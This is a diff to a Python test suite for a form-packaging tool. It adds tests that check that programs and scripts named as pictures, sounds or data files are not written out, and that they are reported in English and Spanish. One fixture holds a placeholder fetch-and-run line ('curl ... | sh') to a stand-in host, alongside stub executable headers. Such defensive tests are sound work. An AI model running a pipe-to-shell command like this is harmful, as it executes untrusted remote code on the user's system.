@@ -76,6 +76,12 @@ def test_files_the_form_never_reads_nor_shows_are_not_written(tmp_path: Path) ->
     supervisor.close()
 
 
+GENUINE = {
+    "logo.png": LOGO,
+    "grito.mp3": b"ID3\x04\x00 a shout",
+    "mapa.geojson": b'{"type": "FeatureCollection", "features": []}',
+}
+"""Files of the kinds their names say."""
 PROGRAMS = [
     "setup.exe",
     "abrir.lnk",
@@ -102,8 +108,8 @@ def test_a_program_the_form_shows_as_an_image_is_not_written_and_is_named(
 ) -> None:
     """A form may name any file in its image column, and a package gives its bytes: the
     copy wrote ``setup.exe`` beside the workbook because the form "shows" it."""
-    images = ["logo.png", "grito.mp3", "mapa.geojson", *PROGRAMS]
-    supervisor, sha256 = _merged(tmp_path, images, {image: b"MZ owned" for image in images})
+    programs = {image: b"MZ owned" for image in PROGRAMS}
+    supervisor, sha256 = _merged(tmp_path, list(GENUINE) + PROGRAMS, {**GENUINE, **programs})
     out = tmp_path / "out"
     out.mkdir()
     record = supervisor.store.forms.records()[0]
@@ -116,6 +122,51 @@ def test_a_program_the_form_shows_as_an_image_is_not_written_and_is_named(
         assert line.startswith(words), language
         more = " and 7 more" if language == "en" else " y 7 más"
         assert ", ".join(sorted(PROGRAMS)[:10]) + more + ". " in line, language
+    supervisor.close()
+
+
+WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
+LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
+SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
+DISGUISED = {
+    "logo.png": WINDOWS_PROGRAM,
+    "foto.jpg": LINUX_PROGRAM,
+    "grito.mp3": WINDOWS_PROGRAM,
+    "video.mp4": SCRIPT,
+    "zona.geojson": SCRIPT,
+    "lista.csv": WINDOWS_PROGRAM,
+    "datos.xml": "\ufeff#!/bin/sh\n".encode(),  # a byte-order mark first
+    "tabla.csv": "año,ciudad\n".encode("latin-1"),  # not UTF-8: no form reads it
+}
+"""Programs and scripts named as the media and data files a form uses."""
+TRUE_TO_NAME = {
+    "bandera.jpg": b"\x89PNG\r\n\x1a\n a PNG saved as .jpg",  # still a picture
+    "voz.m4a": b"\x00\x00\x00\x20ftypM4A \x00\x00\x00\x00",
+    "mapa.geojson": '\ufeff {"type": "FeatureCollection", "features": []}'.encode(),
+    "sitios.csv": "nombre,etiqueta\nnorte,Año\n".encode(),
+    "datos extra.xml": b"<?xml version='1.0'?><root/>",
+}
+
+
+def test_a_program_named_as_a_picture_sound_or_data_file_is_not_written_and_is_named(
+    tmp_path: Path,
+) -> None:
+    """A package gives a form's files their bytes: a program named ``logo.png``, which
+    the form shows as its logo, was written beside the workbook, its name hiding it."""
+    files = {**DISGUISED, **TRUE_TO_NAME}
+    supervisor, sha256 = _merged(tmp_path, sorted(files), files)
+    out = tmp_path / "out"
+    out.mkdir()
+    record = supervisor.store.forms.records()[0]
+    copy = write_form_copy(supervisor.store, sha256, out / "cso.xlsx")
+    assert copy.files == sorted([*TRUE_TO_NAME, "streets.csv"])
+    assert sorted(p.name for p in out.iterdir()) == sorted(["cso.xlsx", *copy.files])
+    for name, content in TRUE_TO_NAME.items():
+        assert (out / name).read_bytes() == content
+    assert copy.left_out == sorted(DISGUISED)
+    for language, words in (("en", "Not written: "), ("es", "No se escribieron: ")):
+        line = said_copied(copy, record, language).splitlines()[-1]
+        assert line.startswith(words + ", ".join(sorted(DISGUISED)) + "."), language
     supervisor.close()
 
 
